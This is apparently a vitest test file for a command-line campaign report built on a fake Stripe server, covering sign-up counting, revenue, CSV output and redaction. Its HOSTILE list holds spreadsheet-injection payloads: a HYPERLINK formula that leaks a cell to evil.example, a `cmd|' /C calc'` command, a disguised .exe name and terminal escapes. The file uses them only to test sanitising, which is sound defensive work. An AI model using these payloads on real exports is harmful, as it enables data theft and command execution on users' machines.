import type { Stripe } from 'stripe'
import { expect, test, vi } from 'vitest'
import { sessionParameters } from '../../../api/checkout/session-parameters'
import { parseOptions } from '../../../src/node/commands/campaign-report/options'
import { heading } from '../../../src/node/commands/campaign-report/output'
import { runCampaignReport } from '../../../src/node/commands/campaign-report/run'
import { FAKE_PRICE_IDS } from '../../../src/node/dev/fake-stripe/environment'
import { formatUsd } from '../../../src/shared/money'
import { PLANS } from '../../../src/shared/plans'
import { SETUP_OPTIONS } from '../../../src/shared/setup-options'
import { checkoutBody, startCheckoutRig } from '../../support/checkout-rig'
import { literally } from '../../support/figures'

const { fakeStripe } = await startCheckoutRig()

const run = (args: string[] = [], variables = {}) =>
  runCampaignReport(args, { STRIPE_API_BASE: fakeStripe.url, ...variables })

const report = async (...args: string[]) => JSON.parse((await run(['--json', ...args])).stdout)

interface Outcome {
  /** The status of the subscription, or of a checkout that was not finished. */
  readonly outcome?: Stripe.Subscription.Status | 'open' | 'expired'
  /** Seconds since 1970. */
  readonly created?: number
}

/** Adds sign-ups that differ from a plain one. */
function seed(...changes: (Outcome & Parameters<typeof checkoutBody>[0])[]): void {
  const { sessions } = fakeStripe.state
  const settings = { priceIds: FAKE_PRICE_IDS, automaticTax: false }
  for (const { outcome = 'active', created = 1_793_000_000, ...order } of changes) {
    const parameters = sessionParameters(checkoutBody(order), settings, 'https://site.example')
    const { id } = sessions.create(parameters, created)
    if (outcome === 'expired') sessions.expire(id)
    else if (outcome !== 'open') sessions.complete(id, outcome, created)
  }
}

const STARTER_CENTS = PLANS.starter.monthlyCents

/** Parses CSV as RFC 4180 has it, so that the test reads what a spreadsheet would. */
function parseCsv(text: string): string[][] {
  return text
    .split('\r\n')
    .map((line) =>
      [...line.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)].map(
        ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
      ),
    )
}

test('without a key, the fake Stripe is asked, and the first line says so', async () => {
  seed({})
  const { exitCode, stdout } = await run()
  expect(exitCode).toBe(0)
  expect(stdout).toMatch(/^Campaign report: Fake Stripe: a rehearsal, no real money; all time/)
  const options = parseOptions(['--since', '2026-10-01'])
  expect(heading('live', options)).toMatch(/^Campaign report: Stripe, live mode; since 2026-10-01/)
  expect(heading('test', options)).toMatch(/TEST MODE: no real money/)
})

const key = (...parts: string[]) => parts.join('_')

test.each([
  ['an unknown key', key('rk', 'test', 'other'), /^Stripe does not accept STRIPE_SECRET_KEY\.$/],
  ['a publishable key', key('pk', 'live', 'abc'), /^STRIPE_SECRET_KEY is /],
])('%s is answered with one line that does not quote the key', async (_name, secret, line) => {
  const reply = await run([], { STRIPE_SECRET_KEY: secret })
  expect(reply).toMatchObject({ exitCode: 1, stdout: '', stderr: expect.stringMatching(line) })
  expect(reply.stderr).not.toMatch(/rk_|pk_/)
})

test('for a key without the permission, one line names the one that Stripe asks for', async () => {
  fakeStripe.state.faults.add('http-403', 1, 'list')
  const { stderr } = await run()
  expect(stderr).toMatch(/read access to Checkout Sessions and Subscrip.*rak_checkout_session_read/)
  expect(stderr).not.toMatch(/rk_test|acct_/)
})

test.each([
  ['--by campaign', "--by does not know 'campaign'"],
  ['--since 2026-02-30', '--since takes a day such as 2026-10-01'],
  ['--since 2026-10-02 --until 2026-10-01', 'is after --until'],
  ['--csv --json', 'not both'],
  ['--sinse 2026-10-01', "Unknown option '--sinse'. docs"],
  ['october', "Unexpected argument 'october'. npm keeps options for itself unless `--` is in"],
])('%s is answered with one line', async (args, line) => {
  const { exitCode, stdout, stderr } = await run(args.split(' '))
  expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' })
  expect(stderr).toContain(line)
  expect(stderr).not.toContain('\n')
})

test('options that npm kept for itself are named', async () => {
  // `npm run campaign-report --json`, without the two dashes.
  const { exitCode, stderr } = await run([], { npm_config_json: 'true' })
  expect(exitCode).toBe(1)
  expect(stderr).toMatch(/^--json did not arrive\. npm keeps options for itself unless `--`/)
})

test('every page of checkouts is read, and when one fails, one line replaces the table', async () => {
  seed(...Array.from({ length: 350 }, () => ({})))
  expect((await report()).totals.signUps).toBe(350)
  fakeStripe.state.faults.add('cut-reply', 2, 'list', 2)
  const { exitCode, stdout, stderr } = await run()
  expect({ exitCode, stdout }).toEqual({ exitCode: 1, stdout: '' })
  expect(stderr).toContain('could not list the checkouts (StripeConnectionError')
})

test.each([
  ['trialing', 'inTrial', 0],
  ['active', 'converted', STARTER_CENTS],
  ['past_due', 'converted', STARTER_CENTS],
  ['canceled', 'canceled', 0],
  ['incomplete_expired', 'canceled', 0],
  ['unpaid', 'other', 0],
] as const)('a subscription that is %s counts as %s', async (outcome, column, revenue) => {
  seed({ outcome })
  const none = { inTrial: 0, converted: 0, canceled: 0, other: 0 }
  const figures = { ...none, [column]: 1, monthlyRevenueCents: revenue }
  expect((await report()).totals).toMatchObject(figures)
})

test('a setup fee counts once its payment has arrived', async () => {
  seed({ setup: 'assisted', outcome: 'open' })
  const [session] = fakeStripe.state.sessions.all()
  fakeStripe.state.sessions.completeUnpaid(session?.id ?? '')
  expect((await report()).totals).toMatchObject({ signUps: 1, setupFeeCents: 0 })
  fakeStripe.state.sessions.settle(session?.id ?? '')
  expect((await report()).totals.setupFeeCents).toBe(SETUP_OPTIONS.assisted.feeCents)
})

test('checkouts that were not finished do not count', async () => {
  seed({ outcome: 'open' }, { outcome: 'expired' })
  expect((await run()).stdout).toContain('There are no finished sign-ups in this period.')
})

test('a yearly plan counts one twelfth, rounded once for each figure', async () => {
  // A twelfth of $1,000 is $83.3333…: two rows of one are rounded down, two together are $166.67.
  fakeStripe.state.changePrice('price_starter_yearly', { unit_amount: 100_000 })
  seed(
    { billing: 'yearly', attribution: { utm_campaign: 'a' } },
    { billing: 'yearly', attribution: { utm_campaign: 'b' } },
  )
  const each = { monthlyRevenueCents: 8_333 }
  const totals = { monthlyRevenueCents: 16_667 }
  expect(await report()).toMatchObject({ rows: [each, each], totals })
})

test('the revenue is that of the subscription as it is now, without what is paid by use', async () => {
  fakeStripe.state.changePrice('price_starter_monthly', { unit_amount: 9_900 })
  seed({})
  expect((await report()).totals.monthlyRevenueCents).toBe(9_900)
  const recurring = { interval: 'month', interval_count: 1, usage_type: 'metered' } as const
  fakeStripe.state.changePrice('price_starter_monthly', { recurring })
  seed({})
  expect((await report()).totals).toMatchObject({ converted: 2, monthlyRevenueCents: 9_900 })
})

test('sign-ups without a campaign have a row of their own, after the others', async () => {
  seed({}, {}, { attribution: { utm_source: 'google', utm_campaign: 'spring' } })
  const { stdout } = await run()
  const revenue = literally(formatUsd(3 * STARTER_CENTS))
  const rows = stdout.split('\n').filter((line) => /^(?:spring|\(no|Total)/.test(line))
  expect(rows).toEqual([
    expect.stringMatching(/^spring +1 /),
    expect.stringMatching(/^\(no campaign\) +2 /),
    expect.stringMatching(String.raw`^Total +3 .* ${revenue}(?:\.00)? +\$0\.00$`),
  ])
  expect(stdout).toContain('Visits are not known')
  expect(await report()).toMatchObject({
    rows: [{ utm_campaign: 'spring' }, { utm_campaign: null }],
  })
})

test('one missing parameter of several differs from no campaign at all', async () => {
  seed({ attribution: { utm_source: 'chamber' } }, {})
  const { stdout } = await run(['--by', 'utm_source,utm_campaign', '--csv'])
  expect(parseCsv(stdout).map((row) => row.slice(0, 3))).toEqual([
    ['utm_source', 'utm_campaign', 'sign_ups'],
    ['chamber', '', '1'],
    ['(no campaign)', '', '1'],
  ])
})

test('the CSV has each figure in its own column', async () => {
  const [trialing, canceled] = [{ outcome: 'trialing' }, { outcome: 'canceled' }] as const
  seed({ plan: 'business', setup: 'assisted', ...trialing }, trialing, trialing, {})
  seed(canceled, canceled)
  const [titles = [], figures = []] = parseCsv((await run(['--csv'])).stdout)
  const fee = (SETUP_OPTIONS.assisted.feeCents / 100).toFixed(2)
  const revenue = (STARTER_CENTS / 100).toFixed(2)
  expect(Object.fromEntries(titles.map((title, index) => [title, figures[index]]))).toEqual({
    ...{ utm_campaign: '(no campaign)', sign_ups: '6', in_trial: '3', converted: '1' },
    ...{ canceled: '2', other: '0', starter: '5', business: '1', shimzy: '0' },
    ...{ monthly_revenue_usd: revenue, setup_fees_usd: fee },
  })
})

test('days count from midnight to midnight in the time zone of this computer', async () => {
  vi.stubEnv('TZ', 'America/Chicago')
  for (const moment of ['09-30T23:59:59', '10-01T00:00', '10-31T23:59:59', '11-01T00:00'])
    seed({ created: new Date(`2026-${moment}`).getTime() / 1000 })
  const signUps = async (...args: string[]) => (await report(...args)).totals.signUps
  expect(await signUps('--since', '2026-10-01')).toBe(3)
  expect(await signUps('--until', '2026-10-31')).toBe(3)
  expect(await signUps('--since', '2026-10-01', '--until', '2026-10-01')).toBe(1)
})

test('a checkout that this site did not make is left out, and the report says so', async () => {
  seed({})
  const { id } = fakeStripe.state.sessions.create({
    mode: 'subscription',
    success_url: 'https://other.example/',
    line_items: [{ price: 'price_shimzy_monthly', quantity: 1 }],
  })
  fakeStripe.state.sessions.complete(id)
  const note = 'Not counted: 1, made by another site or not in US dollars.'
  const { stdout } = await run()
  expect(stdout).toContain(note)
  expect(stdout).toMatch(/^Total +1 /m)
  expect((await run(['--csv'])).stderr).toContain(note)
})

test('nothing personal is printed', async () => {
  seed({ attribution: { utm_campaign: 'dana@whitfield.example' } })
  seed({ attribution: { utm_campaign: 'call (972) 555-0142' } })
  for (const format of [[], ['--csv'], ['--json']]) {
    const { stdout } = await run(format)
    expect(stdout).toContain('[email]')
    expect(stdout).toContain('[phone]')
    expect(stdout).not.toMatch(/whitfield|Dana|0142|Plumbing|cs_test|sub_/i)
  }
})

const HOSTILE = [
  '=HYPERLINK("https://evil.example?x="&A1,"Refund")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)*cmd',
  '＝1+1',
  'say "hi", they said',
  'first\r\nsecond\n=third',
  'tab\tbed',
  'gnp.\u202egpj.exe',
  '\u001b[31mred\u001b[0m\u0007',
  '__proto__',
  'x'.repeat(400),
]

/** Control characters and the marks that change the reading direction. */
const UNPRINTABLE = /[\p{Cc}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u

test('hostile values come out of the CSV as harmless text, one row each, and stay in their cell of the table', async () => {
  seed(...HOSTILE.map((utm_campaign) => ({ attribution: { utm_campaign } })))
  const { stdout } = await run(['--csv'])
  const cells = parseCsv(stdout)
  expect(cells).toHaveLength(HOSTILE.length + 1)
  for (const row of cells) {
    expect(row).toHaveLength(11)
    expect(row[0]).not.toMatch(/^[=+\-@＝＋－＠\t\r]/)
  }
  expect(stdout.replaceAll('\r\n', '')).not.toMatch(UNPRINTABLE)
  const names = cells.map(([name]) => name)
  expect(names).toContain('say "hi", they said')
  expect(names).toContain(`'${HOSTILE[0]?.toLowerCase()}`)

  const lines = (await run()).stdout.split('\n')
  const table = lines.slice(2, lines.indexOf('', 2))
  expect(table).toHaveLength(HOSTILE.length + 4)
  expect(new Set(table.map((line) => Array.from(line).length)).size).toBe(1)
  expect(lines.join('')).not.toMatch(UNPRINTABLE)
})

test('tags that differ in capitals are one row, and so are pages that differ in a final slash', async () => {
  seed(
    { attribution: { utm_source: 'Google', landing_page: '/About' } },
    { attribution: { utm_source: 'google', landing_page: '/about' } },
    { attribution: { utm_source: 'google', landing_page: '/about/' } },
    { attribution: { utm_source: 'google', landing_page: '/' } },
  )
  const sources = await report('--by', 'utm_source')
  expect(sources.rows).toMatchObject([{ utm_source: 'google', signUps: 4 }])
  const pages = (await report('--by', 'landing_page')).rows
  expect(pages).toMatchObject(['/about', '/', '/About'].map((landing_page) => ({ landing_page })))
})
